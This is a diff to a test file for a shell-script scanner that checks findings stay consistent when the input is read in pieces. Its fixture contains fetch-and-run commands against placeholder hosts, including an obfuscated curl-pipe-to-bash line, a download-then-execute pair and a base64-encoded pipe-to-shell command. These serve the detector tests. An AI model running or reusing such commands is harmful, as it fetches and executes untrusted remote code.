@@ -25,18 +25,28 @@ function readInPieces(text: string, cuts: readonly number[]): Found {
 }
 
 describe('where pieces meet', () => {
-  const text = `# a\n\necho x; ${PIPE} # see git@github.com:a/b\n# ä ü\nc''url https://y.dev/i | b\\ash\n`;
+  const encoded = Buffer.from('curl https://z.dev/i | sh # words').toString('base64');
+  const text = [
+    `# a\n\necho x; ${PIPE} # see git@github.com:a/b`,
+    "# ä ü\nc''url https://y.dev/i | b\\ash",
+    `curl -o q.sh https://w.dev/q\nsh q.sh\n${encoded}\n# end\n`,
+  ].join('\n');
 
   test('nothing is lost and nothing counted twice, wherever that is', () => {
     const whole = readInPieces(text, []);
     expect(whole.findings.map(({ rule, line }) => [rule, line])).toEqual([
       ['SP101', 3],
       ['SP101', 5],
+      ['SP101', 8],
+      ['SP102', 6],
+      ['SP608', 8],
     ]);
     expect(whole.hosts.map(({ name, count }) => [name, count])).toEqual([
       ['github.com', 1],
+      ['w.dev', 1],
       ['x.dev', 1],
       ['y.dev', 1],
+      ['z.dev', 1],
     ]);
     for (let cut = 1; cut < Buffer.byteLength(text); cut += 1) expect(readInPieces(text, [cut])).toEqual(whole);
   });
